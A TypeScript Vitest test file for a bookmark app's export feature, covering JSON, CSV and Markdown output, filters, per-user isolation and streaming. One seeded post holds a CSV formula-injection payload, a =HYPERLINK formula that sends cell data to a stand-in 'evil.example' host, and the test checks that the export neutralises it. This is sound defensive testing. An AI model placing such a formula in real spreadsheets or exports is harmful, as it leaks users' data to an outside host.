import { TRPCError } from "@trpc/server";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { GET } from "~/app/api/export/route";
import { closeDb, createPrisma, db as appDb, poolOf, type Db } from "~/server/db";
import { toAppSession, type AppSession } from "~/server/session";
import { libraryFilter, type LibraryFilterInput } from "~/shared/filter";
import { createLibraryUser, seedBookmarks, type SeedPost } from "~/testing/library-seed";
import { createCategory } from "./categories";
import { bulkEdit, editBookmark } from "./edit";
import { CSV_BOM, CSV_COLUMNS, exportChunks, exportResponse, type ExportFormat, type ExportRecord } from "./export";
import { listBookmarks } from "./list";

// The route handler's session comes from next-auth, which needs Next's request context: the
// route's own test swaps it for whatever `sessionForRoute` holds.
const route = vi.hoisted(() => ({ session: null as AppSession | null }));
vi.mock("~/server/auth", () => ({ getAppSession: async () => route.session }));

const TOTAL = 1_234;
const ML = "機械学習";

let db: Db;
let alice: { id: string; handle: string };
let bob: { id: string; handle: string };
/** Alice's live bookmarks, newest first (the list's default order). */
let aliceIds: string[];
let aliceTexts: Map<string, string>;
let bobIds: string[];
let deleted: string[];
let edited: string;
let tricky: string;

function alicePost(i: number): SeedPost {
  let text = `post ${i}: notes on things`;
  if (i % 10 === 3) text = `${ML}の論文 #${i}、面白い`;
  if (i % 97 === 5) text = `line one ${i}\nline "two", with a comma\r\nline three`;
  if (i % 101 === 7) text = `=HYPERLINK("http://evil.example/?"&A1,"click") ${i}`;
  if (i % 89 === 11) text = `Tom &amp; Jerry &lt;3 ${i}`;
  return {
    text,
    author: i % 2 === 0 ? { username: "even_author", name: "Even, Author" } : { username: "yamada", name: "山田 太郎" },
    postedAt: new Date(Date.UTC(2025, 0, 1) + i * 3_600_000),
    lang: i % 10 === 3 ? "ja" : "en",
    media: i % 7 === 0,
  };
}

const filterOf = (f: LibraryFilterInput = {}) => libraryFilter.parse(f);

async function collect(
  userId: string,
  format: ExportFormat,
  f: LibraryFilterInput = {},
  pageSize?: number,
): Promise<{ text: string; chunks: number }> {
  let text = "";
  let chunks = 0;
  for await (const c of exportChunks(db, userId, filterOf(f), format, undefined, { pageSize })) {
    text += c;
    chunks += 1;
  }
  return { text, chunks };
}

async function jsonExport(userId: string, f: LibraryFilterInput = {}, pageSize?: number): Promise<ExportRecord[]> {
  return JSON.parse((await collect(userId, "json", f, pageSize)).text) as ExportRecord[];
}

/** RFC 4180: fields separated by commas, records by CRLF, quoted fields may hold anything ("" is a quote). */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < s.length) {
    const ch = s[i]!;
    if (quoted) {
      if (ch === '"' && s[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"' && field === "") {
      quoted = true;
      i += 1;
    } else if (ch === ",") {
      row.push(field);
      field = "";
      i += 1;
    } else if (ch === "\r" && s[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i += 2;
    } else if (ch === "\r" || ch === "\n" || ch === '"') {
      throw new Error(`bare ${JSON.stringify(ch)} outside quotes at ${i}`);
    } else {
      field += ch;
      i += 1;
    }
  }
  if (field !== "" || row.length > 0) throw new Error("the file does not end with CRLF");
  return rows;
}

/** Counts the list's page queries (the hydrating statement) on the test's pool. */
function countPageQueries() {
  const pool = poolOf(db);
  const original = pool.query.bind(pool) as (...a: unknown[]) => unknown;
  let n = 0;
  const spy = vi.spyOn(pool, "query").mockImplementation(((...args: unknown[]) => {
    const q = args[0] as { text?: string } | string;
    if ((typeof q === "string" ? q : (q.text ?? "")).startsWith("WITH h AS MATERIALIZED")) n += 1;
    return original(...args);
  }) as typeof pool.query);
  return { count: () => n, restore: () => spy.mockRestore() };
}

const req = (query: string) => new Request(`http://localhost/api/export?${query}`);
const sessionOf = (u: { id: string; handle: string }) => toAppSession({ id: u.id, handle: u.handle }, new Date(Date.now() + 3_600_000));

beforeAll(async () => {
  db = createPrisma(process.env.DATABASE_URL);
  alice = await createLibraryUser(db);
  bob = await createLibraryUser(db);
  const seeded = await seedBookmarks(
    db,
    alice.id,
    Array.from({ length: TOTAL + 6 }, (_, i) => alicePost(i)),
  );
  // Six deleted here: never exported.
  deleted = [seeded[1]!, seeded[500]!, seeded[501]!, seeded[777]!, seeded[1000]!, seeded[TOTAL + 5]!];
  await bulkEdit(db, alice.id, { ids: deleted, action: { kind: "delete" } });
  aliceIds = seeded.filter((id) => !deleted.includes(id));
  aliceTexts = new Map(seeded.map((id, i) => [id, alicePost(i).text]));
  bobIds = await seedBookmarks(
    db,
    bob.id,
    Array.from({ length: 40 }, (_, i) => ({
      text: i % 2 ? `${ML} bob secret ${i}` : `bob secret ${i}`,
      author: { username: "bob_src", name: "Bob Src" },
    })),
  );

  const reading = await createCategory(db, alice.id, { name: "読書 reading", color: "#3b82f6" });
  edited = seeded[42]!;
  await editBookmark(db, alice.id, {
    id: edited,
    note: 'Read this twice,\nthen "summarise" it',
    favorite: true,
    categoryId: reading.id,
    addTags: ["AI", "論文"],
  });
  tricky = seeded[101 + 7]!; // the =HYPERLINK post (i % 101 === 7)
  await bulkEdit(db, alice.id, { ids: seeded.slice(200, 300), action: { kind: "addTags", names: ["batch"] } });
  await poolOf(db).query(`UPDATE "Bookmark" SET "removedOnXAt" = '2025-03-01 00:00:00' WHERE id = $1::int8`, [seeded[43]]);
  // Bob tags his own bookmarks too; Alice's export must not see them.
  await bulkEdit(db, bob.id, { ids: bobIds, action: { kind: "addTags", names: ["AI"] } });
}, 120_000);

afterAll(async () => {
  await closeDb(db);
  await closeDb(appDb);
});

describe("exportChunks", () => {
  it("writes every bookmark exactly once, in list order, across several pages", async () => {
    const { text, chunks } = await collect(alice.id, "json");
    expect(chunks).toBe(3); // 1,234 at 500 a page
    const items = JSON.parse(text) as ExportRecord[];
    expect(items.map((r) => r.id)).toEqual(aliceIds);
    expect(new Set(items.map((r) => r.id)).size).toBe(TOTAL);
    for (const d of deleted) expect(items.some((r) => r.id === d)).toBe(false);

    // The same as paging the list the way the UI does.
    const listed: string[] = [];
    let cursor: string | null = null;
    do {
      const page = await listBookmarks(db, alice.id, filterOf(), { cursor, limit: 100 });
      listed.push(...page.items.map((b) => b.id));
      cursor = page.nextCursor;
    } while (cursor);
    expect(items.map((r) => r.id)).toEqual(listed);
  });

  it("keeps the order of other sorts, page size notwithstanding", async () => {
    const oldest = await jsonExport(alice.id, { sort: "oldest" }, 97);
    expect(oldest.map((r) => r.id)).toEqual([...aliceIds].reverse());
  });

  it("applies the filter: a Japanese search, in list order and by relevance across small pages", async () => {
    const expected = aliceIds.filter((id) => aliceTexts.get(id)!.includes(ML));
    expect(expected.length).toBeGreaterThan(100);
    const newest = await jsonExport(alice.id, { q: ML });
    expect(newest.map((r) => r.id)).toEqual(expected);
    for (const r of newest) expect(r.text).toContain(ML);

    const relevance = await jsonExport(alice.id, { q: ML, sort: "relevance" }, 17);
    expect(relevance).toHaveLength(expected.length);
    expect(new Set(relevance.map((r) => r.id))).toEqual(new Set(expected));
  });

  it("applies the filter controls (tags, favourite, author, media)", async () => {
    const { rows } = await poolOf(db).query<{ id: number }>(`SELECT id FROM "Tag" WHERE "userId" = $1 AND key = 'batch'`, [alice.id]);
    const batch = await jsonExport(alice.id, { tagIds: [rows[0]!.id] });
    expect(batch).toHaveLength(100);
    expect(batch.every((r) => r.tags.includes("batch"))).toBe(true);

    expect((await jsonExport(alice.id, { favorite: true })).map((r) => r.id)).toEqual([edited]);
    const media = await jsonExport(alice.id, { hasMedia: true, author: "@yamada" });
    expect(media.length).toBeGreaterThan(0);
    expect(media.every((r) => r.authorHandle === "yamada")).toBe(true);
  });

  it("never shows another user's bookmarks", async () => {
    const all = await jsonExport(alice.id);
    const bobs = new Set(bobIds);
    expect(all.some((r) => bobs.has(r.id) || r.text.includes("bob secret"))).toBe(false);
    expect(await jsonExport(alice.id, { q: "bob secret" })).toEqual([]);
    // Bob's tag id in Alice's filter matches nothing of hers.
    const { rows } = await poolOf(db).query<{ id: number }>(`SELECT id FROM "Tag" WHERE "userId" = $1`, [bob.id]);
    expect(await jsonExport(alice.id, { tagIds: rows.map((r) => r.id) })).toEqual([]);

    const bobsExport = await jsonExport(bob.id, { q: ML });
    expect(bobsExport).toHaveLength(20);
    expect(bobsExport.every((r) => bobs.has(r.id) && r.tags.join() === "AI")).toBe(true);
  });

  it("carries tags, category, note, favourite and removal; unescapes the text", async () => {
    const items = await jsonExport(alice.id);
    const e = items.find((r) => r.id === edited)!;
    expect(e.tags).toEqual(["AI", "論文"]);
    expect(e.category).toBe("読書 reading");
    expect(e.note).toBe('Read this twice,\nthen "summarise" it');
    expect(e.favorite).toBe(true);
    expect(items.find((r) => r.removedOnXAt !== null)?.removedOnXAt).toBe("2025-03-01T00:00:00.000Z");
    const tom = items.find((r) => r.text.startsWith("Tom"))!;
    expect(tom.text).toMatch(/^Tom & Jerry <3 \d+$/);
    const plain = items.find((r) => r.id !== edited)!;
    expect(plain).toMatchObject({ category: null, note: "", favorite: false });
    expect(plain.postedAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });

  it("writes CSV that parses back to the same bookmarks", async () => {
    const { text } = await collect(alice.id, "csv");
    expect(text.startsWith(CSV_BOM)).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const body = rows.slice(1);
    expect(body).toHaveLength(TOTAL);
    expect(body.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    expect(body.map((r) => r[0])).toEqual(aliceIds);

    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const e = body.find((r) => r[0] === edited)!;
    expect(e[col("tags")]).toBe("AI, 論文");
    expect(e[col("category")]).toBe("読書 reading");
    expect(e[col("note")]).toBe('Read this twice,\nthen "summarise" it');
    expect(e[col("favorite")]).toBe("true");
    expect(body.find((r) => r[0] === tricky)![col("text")]).toMatch(/^'=HYPERLINK\("http:\/\/evil\.example\/\?"&A1,"click"\) \d+$/);
    const multi = body.find((r) => r[col("text")]!.startsWith("line one"))!;
    expect(multi[col("text")]).toMatch(/^line one \d+\nline "two", with a comma\r\nline three$/);
    expect(body.find((r) => r[col("author_handle")] === "yamada")![col("author_name")]).toBe("山田 太郎");
  });

  it("writes Markdown with one section per bookmark", async () => {
    const { text } = await collect(alice.id, "md", { q: ML });
    expect(text.startsWith("# X bookmarks\n\nExported ")).toBe(true);
    const headings = text.split("\n").filter((l) => l.startsWith("## @"));
    expect(headings).toHaveLength(aliceIds.filter((id) => aliceTexts.get(id)!.includes(ML)).length);
    expect(headings[0]).toMatch(/^## @yamada — 山田 太郎 · 2025-\d\d-\d\d$/);
    expect(text).toContain(`> ${ML}の論文`);
  });

  it("writes a valid empty file when nothing matches", async () => {
    expect((await collect(alice.id, "json", { q: "nothing-matches-this" })).text).toBe("[\n]\n");
    const csv = (await collect(alice.id, "csv", { q: "nothing-matches-this" })).text;
    expect(parseCsv(csv.slice(1))).toHaveLength(1);
  });

  it("fails on a bad search at the first chunk, before anything is written", async () => {
    const chunks = exportChunks(db, alice.id, filterOf({ q: "has:everything" }), "csv");
    const err = await chunks.next().then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(TRPCError);
    expect((err as TRPCError).code).toBe("BAD_REQUEST");
  });

  it("stops querying once aborted", async () => {
    const q = countPageQueries();
    try {
      const abort = new AbortController();
      let chunks = 0;
      for await (const c of exportChunks(db, alice.id, filterOf(), "csv", abort.signal, { pageSize: 100 })) {
        expect(c.length).toBeGreaterThan(0);
        chunks += 1;
        if (chunks === 2) abort.abort();
      }
      expect(chunks).toBe(2);
      expect(q.count()).toBe(2);
    } finally {
      q.restore();
    }
  });
});

describe("exportResponse", () => {
  const filterParam = (f: object) => `filter=${encodeURIComponent(JSON.stringify(f))}`;
  const errorOf = async (res: Response) => ((await res.json()) as { error: string }).error;

  it("asks to log in without a session", async () => {
    const res = await exportResponse(db, null, req("format=csv"));
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({ error: "Log in with X to export your bookmarks." });
  });

  it("rejects a bad format or filter with a readable message", async () => {
    const s = sessionOf(alice);
    const bad = await exportResponse(db, s, req("format=xlsx"));
    expect(bad.status).toBe(400);
    expect(await errorOf(bad)).toBe("format must be csv, json or md");

    const notJson = await exportResponse(db, s, req("format=csv&filter=%7Bnope"));
    expect(notJson.status).toBe(400);
    expect(await errorOf(notJson)).toBe("filter must be a JSON object of library filter settings.");

    const dates = await exportResponse(db, s, req(`format=csv&${filterParam({ postedFrom: "2025-02-01", postedTo: "2025-01-01" })}`));
    expect(dates.status).toBe(400);
    expect(await dates.json()).toEqual({ error: "The start date must be before the end date.", field: "filter.postedTo" });

    const tags = await exportResponse(db, s, req(`format=json&${filterParam({ tagIds: Array.from({ length: 51 }, (_, i) => i + 1) })}`));
    expect(await errorOf(tags)).toBe("Pick at most 50 tags.");
  });

  it("answers a bad search with a 400, not a cut-off file", async () => {
    const res = await exportResponse(db, sessionOf(alice), req(`format=md&${filterParam({ q: "before:someday" })}`));
    expect(res.status).toBe(400);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(await errorOf(res)).toMatch(/before:/);
  });

  it("streams the file with download headers", async () => {
    const now = new Date("2025-05-06T07:08:09Z");
    const res = await exportResponse(db, sessionOf(alice), req(`format=csv&${filterParam({ q: ML })}`), { now, pageSize: 50 });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="x-bookmarks-2025-05-06.csv"');
    expect(res.headers.get("cache-control")).toBe("no-store");
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text).toBe((await collect(alice.id, "csv", { q: ML }, 50)).text);

    const md = await exportResponse(db, sessionOf(alice), req("format=md"), { now });
    expect(md.headers.get("content-type")).toBe("text/markdown; charset=utf-8");
    expect(md.headers.get("content-disposition")).toBe('attachment; filename="x-bookmarks-2025-05-06.md"');
    await md.body!.cancel();
  });

  it("queries only as fast as the client reads, and stops when it goes away", async () => {
    const q = countPageQueries();
    try {
      const res = await exportResponse(db, sessionOf(alice), req("format=json"), { pageSize: 100 });
      expect(q.count()).toBe(1); // the first page, run before answering
      await new Promise((r) => setTimeout(r, 200));
      expect(q.count()).toBeLessThanOrEqual(2); // nobody reads: at most one page ahead
      const reader = res.body!.getReader();
      await reader.read();
      await reader.read();
      await new Promise((r) => setTimeout(r, 200));
      const seen = q.count();
      expect(seen).toBeLessThanOrEqual(3);
      await reader.cancel();
      await new Promise((r) => setTimeout(r, 200));
      expect(q.count()).toBe(seen); // 13 pages in all; none after the cancel
    } finally {
      q.restore();
    }
  });
});

describe("GET /api/export", () => {
  // As the app's own page asks (the route refuses other sites: http/origin.ts).
  const fromApp = (query: string) => new Request(`http://localhost/api/export?${query}`, { headers: { "sec-fetch-site": "same-origin" } });

  it("refuses another site's page", async () => {
    route.session = sessionOf(bob);
    const res = await GET(new Request("http://localhost/api/export?format=json", { headers: { "sec-fetch-site": "cross-site" } }));
    expect(res.status).toBe(403);
  });

  it("needs a session", async () => {
    route.session = null;
    const res = await GET(fromApp("format=json"));
    expect(res.status).toBe(401);
  });

  it("exports the session's library", async () => {
    route.session = sessionOf(bob);
    const res = await GET(fromApp("format=json"));
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    const items = (await res.json()) as ExportRecord[];
    expect(items.map((r) => r.id)).toEqual(bobIds);
  });
});
